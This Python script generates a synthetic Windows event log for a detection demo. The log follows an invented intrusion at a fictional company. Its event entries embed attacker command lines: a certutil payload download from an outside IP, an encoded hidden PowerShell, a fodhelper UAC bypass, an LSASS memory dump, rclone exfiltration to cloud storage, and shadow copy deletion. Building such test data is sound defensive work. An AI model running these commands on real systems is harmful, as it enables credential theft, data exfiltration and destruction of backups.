#!/usr/bin/env python3
"""gen-demo-events.py - writes data/demo/events.jsonl, the synthetic attack story of the demo.

Three hosts and two users of a made-up company (CORP): a phishing document on alice's
workstation leads to execution, tool download, persistence, privilege escalation, discovery,
credential theft, lateral movement to the file server, collection, exfiltration and log
clearing; bob's workstation runs a scan the next day and the file server loses its shadow
copies. Benign activity (browsers, updates, services, a signed Run key) is mixed in. Events are
flat JSON with Sigma's Windows field names. Everything here is invented; no real data.
Run: python3 tools/gen-demo-events.py > data/demo/events.jsonl
"""
import json, random

random.seed(20261126)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
rec = {}

def ev(ts, host, channel, eid, provider, **fields):
    rec[host] = rec.get(host, 1000) + random.randint(1, 40)
    e = {"TimeCreated_SystemTime": ts, "Channel": channel, "EventID": eid, "Computer": host,
         "EventRecordID": rec[host], "Provider_Name": provider}
    e.update(fields)
    return e

def proc(ts, host, user, image, cmd, parent, parent_cmd=""):
    return ev(ts, host, SYSMON, 1, "Microsoft-Windows-Sysmon", User=user, Image=image,
              CommandLine=cmd, ParentImage=parent, ParentCommandLine=parent_cmd,
              ProcessId=random.randint(1000, 9000), IntegrityLevel="Medium")

def reg(ts, host, user, image, key, value):
    return ev(ts, host, SYSMON, 13, "Microsoft-Windows-Sysmon", User=user, Image=image,
              EventType="SetValue", TargetObject=key, Details=value)

def file(ts, host, user, image, path):
    return ev(ts, host, SYSMON, 11, "Microsoft-Windows-Sysmon", User=user, Image=image,
              TargetFilename=path)

A, B, S = "WKS-ALICE.corp.example", "WKS-BOB.corp.example", "SRV-FILE01.corp.example"
alice, bob = "CORP\\alice", "CORP\\bob"
W = "C:\\Windows\\System32\\"
events = [
    # day 1, benign morning
    proc("2026-11-02T08:58:10.120Z", A, alice, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "C:\\Windows\\explorer.exe"),
    proc("2026-11-02T08:59:40.501Z", B, bob, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE", "C:\\Windows\\explorer.exe"),
    reg("2026-11-02T09:01:02.000Z", A, alice, "C:\\Program Files\\Teams\\Update.exe", "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Teams", "\"C:\\Program Files\\Teams\\Teams.exe\" --autostart"),
    proc("2026-11-02T09:05:17.333Z", S, "NT AUTHORITY\\SYSTEM", W + "svchost.exe", "svchost.exe -k netsvcs", W + "services.exe"),
    # phishing -> execution
    proc("2026-11-02T09:12:03.250Z", A, alice, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\Invoice_4471.docm\"", "C:\\Windows\\explorer.exe"),
    proc("2026-11-02T09:12:09.870Z", A, alice, W + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    proc("2026-11-02T09:13:30.004Z", A, alice, W + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.50/u.bin C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe", W + "WindowsPowerShell\\v1.0\\powershell.exe"),
    file("2026-11-02T09:14:51.612Z", A, alice, W + "WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Users\\alice\\Downloads\\mimikatz.exe"),
    proc("2026-11-02T09:16:00.000Z", A, alice, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    reg("2026-11-02T09:20:44.120Z", A, alice, W + "reg.exe", "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate", "C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe"),
    reg("2026-11-02T09:25:10.900Z", A, alice, W + "reg.exe", "HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)", "C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe"),
    proc("2026-11-02T09:25:12.020Z", A, alice, W + "fodhelper.exe", "fodhelper.exe", W + "cmd.exe"),
    proc("2026-11-02T09:30:31.400Z", A, alice, W + "net.exe", "net group \"domain admins\" /domain", W + "cmd.exe"),
    proc("2026-11-02T09:31:02.000Z", B, bob, W + "notepad.exe", "notepad.exe C:\\Users\\bob\\notes.txt", "C:\\Windows\\explorer.exe"),
    proc("2026-11-02T09:40:15.700Z", A, alice, W + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Users\\alice\\AppData\\Local\\Temp\\l.dmp full", W + "cmd.exe"),
    # lateral movement to the file server
    ev("2026-11-02T10:05:00.010Z", S, "System", 7045, "Service Control Manager", ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe", ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem"),
    proc("2026-11-02T10:05:02.500Z", S, alice, W + "cmd.exe", "cmd.exe", "C:\\Windows\\PSEXESVC.exe"),
    proc("2026-11-02T10:20:40.000Z", S, alice, "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -pWinter2026! C:\\ProgramData\\s.7z D:\\Shares\\Finance", W + "cmd.exe"),
    proc("2026-11-02T10:35:12.300Z", S, alice, "C:\\ProgramData\\rclone.exe", "rclone.exe copy C:\\ProgramData\\s.7z mega:backup --transfers 8", W + "cmd.exe"),
    proc("2026-11-02T10:40:00.000Z", B, bob, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "C:\\Windows\\explorer.exe"),
    ev("2026-11-02T11:00:05.000Z", S, "Security", 1102, "Microsoft-Windows-Eventlog", SubjectUserName="alice", SubjectDomainName="CORP", SubjectLogonId="0x3e7a1"),
    # day 2
    proc("2026-11-03T08:45:00.000Z", B, bob, W + "svchost.exe", "svchost.exe -k UnistackSvcGroup", W + "services.exe"),
    proc("2026-11-03T09:02:33.000Z", B, bob, "C:\\Tools\\nmap\\nmap.exe", "nmap.exe -sS 10.10.0.0/24", W + "cmd.exe"),
    proc("2026-11-03T09:10:00.000Z", B, bob, W + "net.exe", "net use", W + "cmd.exe"),
    proc("2026-11-03T12:30:09.000Z", S, alice, W + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", W + "cmd.exe"),
    proc("2026-11-03T12:31:00.000Z", S, "NT AUTHORITY\\SYSTEM", W + "wuauclt.exe", "wuauclt.exe /RunHandlerComServer", W + "svchost.exe"),
]
for e in events:
    print(json.dumps(e, ensure_ascii=False))
